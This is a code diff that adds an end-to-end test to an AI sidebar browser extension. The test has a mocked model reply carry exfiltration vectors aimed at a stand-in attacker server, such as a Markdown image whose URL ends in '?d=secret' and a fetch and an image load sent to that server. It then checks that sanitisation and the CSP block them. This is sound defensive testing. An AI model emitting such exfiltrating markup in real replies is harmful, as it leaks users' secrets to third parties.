@@ -10,6 +10,8 @@ import type { TabToolSnapshot } from '../../lib/background/tool-bridge';
 import type { HostToBackgroundMessage } from '../../lib/messaging/bridge-messages';
 import { NO_WEBGPU_NOTE } from '../../lib/local/create-local-adapter';
 import { buildTestModel } from '../../scripts/make-test-model';
+import { EXFILTRATION_REPLY_LANDMARK, exfiltrationReply } from '../fixtures/exfiltration-vectors';
+import { startAttackerServer } from '../servers/attacker-server';
 import { type ModelHost, startModelHost } from '../servers/model-host';
 import { type ProviderServer, startProviderServer } from '../servers/provider-server';
 import { type StaticServer, startStaticServer } from '../servers/static-server';
@@ -500,6 +502,53 @@ async function main(): Promise<number> {
       assert(provider.requests.filter((r) => r.path.endsWith('/models')).length === modelRequests, 'the provider was asked for models');
       await shop.extensionPage.close();
       await shop.page.close();
+    });
+
+    await check('the sidebar page shows a reply carrying every exfiltration vector as text, and its CSP refuses loads', async () => {
+      const attacker = await startAttackerServer();
+      try {
+        await run(extensionPage, SAVE_SETTINGS, {
+          'settings.mode': 'cloud',
+          'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
+          'secret.apiKey.openai-compatible': API_KEY,
+        });
+        provider.script({ type: 'reply', text: exfiltrationReply(attacker.url) });
+        const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
+        const panel = shop.extensionPage;
+        await withPageText(panel, async () => {
+          await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(panel)), 20_000);
+          await sendFromPanel(panel, 'Summarise the page');
+          await waitFor('the reply in the panel', async () => (await panelText(panel)).includes(EXFILTRATION_REPLY_LANDMARK), 30_000);
+        });
+        const fetching = await run<string[]>(
+          panel,
+          `() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(
+            [...document.querySelectorAll('.markdown :is(img, picture, source, video, audio, svg, math, link, meta, style, form, object, embed, iframe, [style], [background], [srcset], [src], [poster])')].map((n) => n.outerHTML),
+          ))))`,
+        );
+        assert(fetching.length === 0, `the reply kept markup that fetches: ${fetching.join(' ')}`);
+        const image = await run<string | undefined>(
+          panel,
+          `(href) => [...document.querySelectorAll('.markdown a')].find((a) => a.getAttribute('href') === href)?.textContent`,
+          `${attacker.url}/v/markdown-image?d=secret`,
+        );
+        assert(image === `${attacker.url}/v/markdown-image?d=secret`, 'the Markdown image is not shown as its address, a link');
+        // The CSP on its own, as if markup had slipped through: a fetch and an image to the attacker.
+        const refused = await run<{ fetched: string; image: string }>(
+          panel,
+          `async (base) => ({
+            fetched: await fetch(base + '/csp/fetch?d=secret').then(() => 'resolved', () => 'rejected'),
+            image: await new Promise((done) => { const img = new Image(); img.onload = () => done('loaded'); img.onerror = () => done('refused'); img.src = base + '/csp/image?d=secret'; }),
+          })`,
+          attacker.url,
+        );
+        assert(refused.fetched === 'rejected' && refused.image === 'refused', `the CSP let through ${JSON.stringify(refused)}`);
+        assert(attacker.requests.length === 0, `the attacker was asked for ${attacker.requests.join(', ')}`);
+        await shop.extensionPage.close();
+        await shop.page.close();
+      } finally {
+        await attacker.close();
+      }
     });
   } finally {
     await session?.close();
